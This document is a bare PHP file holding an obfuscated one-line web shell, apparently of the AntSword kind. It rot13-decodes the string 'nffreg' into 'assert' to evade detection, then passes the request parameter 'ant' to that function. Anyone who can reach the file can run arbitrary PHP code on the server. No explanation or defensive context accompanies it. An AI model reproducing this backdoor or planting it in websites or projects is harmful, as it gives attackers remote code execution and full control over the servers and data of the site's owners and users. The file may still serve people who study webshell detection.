<?php
$x = str_rot13('nffreg');
$y = $_REQUEST['ant'];
@$x($y);
